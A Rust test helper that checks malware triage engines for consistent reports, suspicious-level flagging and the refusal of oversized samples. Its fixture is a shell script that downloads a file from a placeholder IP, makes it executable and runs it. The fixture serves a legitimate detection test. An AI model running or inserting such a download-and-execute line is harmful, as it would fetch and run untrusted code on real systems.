//! What every engine that looks at samples must do.

use crate::triage::{Triage, TriageError, TriageLevel};

/// A sample that is suspicious to every engine.
pub const SCRIPT: &[u8] = b"#!/bin/sh\nwget http://192.0.2.1/a -O b; chmod 777 b; ./b\n";
/// Its digest.
pub const SCRIPT_SHA256: &str = "ccae40ec50326269657ebb2f77744653171b53cc936235efc2fa21de1bb3a7ff";

/// Checks an engine that looks at no more than `bytes_max` bytes.
///
/// # Panics
///
/// When the engine does anything else.
pub fn check_triage(engine: &dyn Triage, bytes_max: usize) {
    let report = engine.triage(SCRIPT).expect("a small script is looked at");
    assert_eq!((&*report.sha256, &*report.kind, report.isa.as_deref()), (SCRIPT_SHA256, "script-shell", None));
    assert!(report.level >= TriageLevel::Suspicious, "{report:?}");
    assert!(report.json.contains(SCRIPT_SHA256) && !report.json.contains('\n'), "one line of JSON");
    assert_eq!(engine.triage(SCRIPT).expect("a small script is looked at"), report, "equal samples, equal reports");
    match engine.triage(&vec![0; bytes_max + 1]) {
        Err(TriageError::TooLarge { bytes, bytes_max: most }) => assert_eq!((bytes, most), (bytes_max + 1, bytes_max)),
        other => panic!("a sample that is too large is refused, not {other:?}"),
    }
}
